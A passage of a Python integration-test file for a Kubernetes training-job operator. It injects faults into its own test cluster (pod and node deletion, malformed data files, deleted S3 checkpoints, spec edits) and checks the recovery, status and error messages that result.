    record(name, "`kubectl delete pods -l kubetrain.io/job-name=...`: both pods at once", outcome(final),
           v.steps_lost, v.data_lost, time.monotonic() - started)


def test_an_fsdp_job_preempted_resumes_from_every_ranks_shards(cluster, corpus, reference):
    name, started = "fsdp-preempted", time.monotonic()
    create(cluster, job(cluster, corpus, name, training__strategy="fsdp"))
    wait_step(cluster, name, 15)
    kubectl(cluster, "delete", "pod", f"{name}-1", "--wait=false")
    final = succeeded(cluster, name)
    assert (final["preemptions"], final["failures"], final["attempt"]) == (1, 0, 2), final
    v = check_run(cluster, name, reference, weights=False, losses=False)  # the data order is the reference's
    assert v.steps_lost == 0
    resumed = v.attempts[1].resumed
    manifest = s3_manifests(cluster, prefix(name))[resumed]
    assert manifest["meta"]["reason"] in EMERGENCY_REASONS and manifest["meta"]["sharded"]
    assert sorted(f for f in manifest["files"] if f.startswith("shards/")) == [
        "shards/.metadata", "shards/__0_0.distcp", "shards/__1_0.distcp"], "each rank's part, listed by rank 0"
    for attempt in v.attempts:  # the same model trained as under ddp, up to fp32 reduction order
        for step, rec in attempt.steps.items():
            assert float(rec.loss) == pytest.approx(float(reference.steps[step].loss), abs=2e-3), (step, rec)
    record(name, "training.strategy fsdp, `kubectl delete pod` of rank 1: every rank saves its own shards, rank 0's "
           "manifest lists them", f"{outcome(final)}; resumed the emergency sharded checkpoint of step {resumed}; "
           "losses within 2e-3 of the ddp reference", v.steps_lost,
           f"none: all {v.compared_steps} step(s) used the reference's samples in its order", time.monotonic() - started)


def test_losing_a_node(cluster, corpus, reference):
    """Runs last: the node does not come back. SIGKILL of a whole node; the surviving pod crashes too."""
    name, started = "node-lost", time.monotonic()
    create(cluster, job(cluster, corpus, name))
    wait_step(cluster, name, EVERY + 5)
    # the node without rank 0: rank 0 survives and writes the rescue checkpoint (only rank 0 writes; losing rank
    # 0's own node falls back to the newest complete checkpoint)
    victim = next(p for p in pods(cluster, name) if p.metadata.name != rank0_pod(cluster, name))
    lost, left = victim.spec.node_name, ({"local-0", "local-1"} - {victim.spec.node_name}).pop()
    kubectl(cluster, "delete", "node", lost, "--wait=false")
    final = succeeded(cluster, name)
    assert (final["preemptions"], final["failures"], final["restarts"]) == (1, 0, 1), final
    assert any(victim.metadata.name in m for _, r, m in events(cluster, name) if r in ("Preempted", "Restarted"))
    assert {p.spec.node_name for p in pods(cluster, name)} == {left}, "the new group runs on the node left"
    v = check_run(cluster, name, reference)
    # rank 0 learns of the loss first from a failed collective (a rescue checkpoint) or from the operator's
    # SIGTERM of the group (an emergency one, when that comes first): either holds its last finished step
    saved = "rescue" if "rescue checkpoint of step" in v.attempts[0].text else "emergency"
    assert saved == "rescue" or "emergency checkpoint at step" in v.attempts[0].text, v.attempts[0].text[-2000:]
    assert v.steps_lost == 0
    record(name, f"node {lost} deleted (`kubectl delete node`): its pod SIGKILLed, no grace ({victim.metadata.name}, "
           "not rank 0's)", f"{outcome(final)}; rank 0 saved a{'' if saved == 'rescue' else 'n'} {saved} checkpoint of "
           f"its last finished step; new group on {left}", v.steps_lost, v.data_lost, time.monotonic() - started)


def bad_data_cases(corpus: dict, tmp: Path) -> list[tuple[str, dict, str, str]]:
    """(job name, spec changes, reason, the message's start): data no retry can fix, each one line naming where."""
    rows = corpus["train"].read_text().splitlines()
    files = {"missing-field.jsonl": "\n".join(rows[:200] + ['{"txt": "no text here", "label": 1}'] + rows[200:]),
             "bad-label.jsonl": "\n".join(rows[:7] + ['{"text": "five", "label": 5}'] + rows[7:]),
             "empty.jsonl": "", "latin1.jsonl": "\n".join(rows[:3]) + '\n{"text": "caf\xe9", "label": 1}\n'}
    for file, text in files.items():
        (tmp / file).write_bytes(text.encode("latin-1" if file == "latin1.jsonl" else "utf-8"))
    return [
        ("bd-missing-field", {"data": {"train": str(tmp / "missing-field.jsonl")}}, "DataError",
         f"data error: {tmp / 'missing-field.jsonl'} row 201: missing field 'text' (spec.data.textField)"),
        ("bd-bad-label", {"data": {"train": str(tmp / "bad-label.jsonl")}}, "DataError",
         f"data error: {tmp / 'bad-label.jsonl'} row 8: label '5' is outside 0..1 (spec.model.numLabels=2)"),
        ("bd-empty", {"data": {"train": str(tmp / "empty.jsonl")}}, "DataError", f"data error: {tmp / 'empty.jsonl'}: no rows"),
        ("bd-latin1", {"data": {"train": str(tmp / "latin1.jsonl")}}, "DataError",
         f"data error: {tmp / 'latin1.jsonl'} line 4: not valid UTF-8"),
        ("bd-typo", {"data": {"train": str(tmp / "trian.jsonl")}}, "DataError",
         f"data error: spec.data.train: {tmp / 'trian.jsonl'}: no such file or directory"),
        ("bd-no-bucket", {"data": {"train": f"s3://{BUCKET}-gone/train.jsonl"}}, "StorageError",
         f"storage error: bucket '{BUCKET}-gone' does not exist (s3://{BUCKET}-gone/train.jsonl)"),
    ]


def test_bad_data_fails_at_the_first_attempt_in_one_line_naming_where(cluster, corpus, tmp_path):
    started = time.monotonic()
    cases = bad_data_cases(corpus, tmp_path)
    for name, change, _, _ in cases:
        doc = job(cluster, corpus, name)
        for section, fields in change.items():
            doc["spec"][section].update(fields)
        create(cluster, doc)
    for name, _, reason, message in cases:
        s = wait_phase(cluster, name, {"Failed", "Succeeded"}, timeout=120)
        assert (s["phase"], s["attempt"], s["restarts"], s["failures"]) == ("Failed", 1, 0, 0), (name, s)
        assert s["message"].startswith(message) and "\n" not in s["message"] and len(s["message"]) < 400, s["message"]
        assert {c["type"]: c["reason"] for c in s["conditions"]}["Failed"] == reason
        wait_events(cluster, name, lambda found: ("Warning", reason, s["message"]) in found)
        kubectl(cluster, "delete", "trainingjob", name, "-n", NS)
    record("bad-data", f"{len(cases)} jobs with data no retry can fix: a row missing its text field, a label outside "
           "numLabels, an empty file, invalid UTF-8, a typo in the data path, a bucket that does not exist",
           "each Failed at the first attempt (0 restarts, 0 failures counted), reason DataError or StorageError, status "
           "and Event one line naming file and row and field, or the bucket", 0, "-", time.monotonic() - started)


def test_a_diverging_job_fails_naming_the_step_and_its_newest_checkpoint_is_the_last_good_one(cluster, corpus):
    name, started = "divergence", time.monotonic()
    create(cluster, job(cluster, corpus, name, training__precision="fp16", training__learningRate=10,
                        training__warmupRatio=0, checkpoint__everySteps=1))
    final = wait_phase(cluster, name, {"Failed", "Succeeded"}, 180)
    assert (final["phase"], final["attempt"], final["failures"]) == ("Failed", 1, 0), final
    bad = int(re.match(r"diverged: non-finite loss at step (\d+) \(training.onNonFinite: fail\)", final["message"])[1])
    manifests = s3_manifests(cluster, prefix(name))
    assert manifests and max(manifests) < bad, (sorted(manifests), bad)
    assert final["lastCheckpoint"]["step"] == max(manifests)
    weights = final_weights(cluster, name, max(manifests))
    assert all(torch.isfinite(t).all() for t in weights.values())
    record(name, "fp16 at learning rate 10: the loss overflows to NaN within a few steps (no injection)",
           f"Failed (Diverged) at the first attempt: '{final['message'][:60]}...'; no checkpoint at or after step "
           f"{bad}: the newest (step {max(manifests)}) holds finite weights and is status.lastCheckpoint", "-", "-",
           time.monotonic() - started)


def test_every_checkpoint_lost_while_suspended_resets_status_and_trains_from_scratch(cluster, corpus, reference):
    name, started = "lost-checkpoints", time.monotonic()
    create(cluster, job(cluster, corpus, name))
    wait_step(cluster, name, EVERY + 5)
    patch_spec(cluster, name, {"runPolicy": {"suspend": True}})
    before = suspended(cluster, name)
    assert before["lastCheckpoint"]["step"] >= EVERY
    client = cluster.s3.client()
    keys = [o["Key"] for o in client.list_objects_v2(Bucket=BUCKET, Prefix=prefix(name))["Contents"]]
    client.delete_objects(Bucket=BUCKET, Delete={"Objects": [{"Key": k} for k in keys]})
    patch_spec(cluster, name, {"runPolicy": {"suspend": False}})
    final = succeeded(cluster, name)
    warnings = [m for t, r, m in events(cluster, name) if (t, r) == ("Warning", "CheckpointsLost")]
    assert len(warnings) == 1 and "started from scratch (no complete checkpoint under" in warnings[0], warnings
    assert f"status had step {before['step']} and lastCheckpoint {before['lastCheckpoint']['uri']}" in warnings[0]
    assert final["startedFrom"]["attempt"] == 2 and "checkpoint" not in final["startedFrom"]
    v = check_run(cluster, name, reference)
    assert v.attempts[1].resumed == 0 and v.steps_lost == v.attempts[0].last
    record(name, f"every checkpoint of a suspended job deleted from S3 ({len(keys)} objects, status at step "
           f"{before['step']}, lastCheckpoint step {before['lastCheckpoint']['step']})",
           f"{outcome(final)}; the resumed group said it started from scratch: status reset to step 0 with a Warning "
           "(CheckpointsLost) naming the lost checkpoint, startedFrom says why", v.steps_lost, v.data_lost,
           time.monotonic() - started)


def test_a_spec_edit_restarts_the_group_gracefully_and_is_applied(cluster, corpus, reference):
    name, started = "spec-edit", time.monotonic()
    create(cluster, job(cluster, corpus, name))
    wait_step(cluster, name, EVERY + 5)
    patch_spec(cluster, name, {"training": {"maxSteps": STEPS + 20}})
    final = succeeded(cluster, name)
    generation = get_job(cluster, name)["metadata"]["generation"]
    assert (final["failures"], final["preemptions"], final["restarts"], final["attempt"]) == (0, 0, 1, 2), final
    assert final["observedGeneration"] == final["groupGeneration"] == generation == 2
    kinds = [(t, r) for t, r, _ in events(cluster, name)]
    assert ("Normal", "SpecChanged") in kinds and ("Normal", "SettingsChanged") in kinds
    changed = final["startedFrom"]["changed"]
    assert changed == [f"training.maxSteps {STEPS} -> {STEPS + 20}"], changed
    v = check_run(cluster, name, reference, steps=STEPS + 20, weights=False, losses=False)  # a longer LR schedule
    assert v.steps_lost == 0
    record(name, f"`kubectl patch` of spec.training.maxSteps {STEPS} -> {STEPS + 20} while running",
           f"{outcome(final)}; Event SpecChanged, then the group saved its checkpoint and the new one resumed there "
           f"with the new spec (Event SettingsChanged: training.maxSteps {STEPS} -> {STEPS + 20}); observedGeneration "
           f"{generation}; ended at step {STEPS + 20}", v.steps_lost, "none: every step trained the reference's samples "
           "in its order (losses differ after the edit: a longer LR schedule)", time.monotonic() - started)


def test_a_job_deleted_and_created_again_with_the_same_name_never_inherits_the_old_one(cluster, corpus):
    name, started = "recreate", time.monotonic()
    create(cluster, job(cluster, corpus, name))
    deleted_at = wait_step(cluster, name, EVERY + 5)
    kubectl(cluster, "delete", "trainingjob", name, "-n", NS, "--wait=false")
    wait_for("the old job gone", lambda: not [j for j in kubectl(cluster, "get", "tj", "-n", NS, "-o", "name").stdout.split()
                                              if j.endswith(f"/{name}")], 30, cluster)
    other = job(cluster, corpus, name)
    other["spec"]["model"]["numLabels"] = 3  # another model: the old checkpoints are not its own
    create(cluster, other)
    seen = []
    final = wait_for(f"{name} finished", lambda: seen.append(s := status(cluster, name)) or (
        s.get("phase") in ("Failed", "Succeeded") and s), 120, cluster)
    assert all((s.get("step") or 0) == 0 and not s.get("lastCheckpoint") for s in seen), "the old job's progress shown"
    assert (final["phase"], final["attempt"], final["failures"]) == ("Failed", 1, 0), final
    assert {c["type"]: c["reason"] for c in final["conditions"]}["Failed"] == "CheckpointIncompatible"
    assert re.match(rf"checkpoint refused: s3://{BUCKET}/{prefix(name)}step-\d{{9}} was written for another model "
                    r"\(model.numLabels 2 -> 3\)", final["message"]), final["message"]
    kubectl(cluster, "delete", "trainingjob", name, "-n", NS)
    other["spec"]["checkpoint"]["resume"] = "never"
    create(cluster, other)
    fresh = succeeded(cluster, name)
    uid = get_job(cluster, name)["metadata"]["uid"]
    assert fresh["startedFrom"] == {"attempt": 1, "step": 0, "changed": [], "why": fresh["startedFrom"]["why"]}
    assert f"no complete checkpoint under s3://{BUCKET}/{prefix(name)}{uid}" in fresh["startedFrom"]["why"]
    assert fresh["lastCheckpoint"]["uri"] == f"s3://{BUCKET}/{prefix(name)}{uid}/step-{STEPS:09d}"
    record("recreate-same-name", f"a running job deleted at step {deleted_at} and created again at once with the "
           "same name and another model (numLabels 2 -> 3); then again with checkpoint.resume: never",
           "status never showed the old job's step or checkpoint; the first Failed (CheckpointIncompatible) at the "
           "first attempt naming the refused checkpoint and the field; the second trained from scratch in its own "
           f"directory (<job>/<uid>/) and Succeeded at step {STEPS}", "-", "-", time.monotonic() - started)


def test_everything_the_operator_did_is_granted_by_the_charts_cluster_role(cluster):
    assert_operator_calls_granted(cluster)
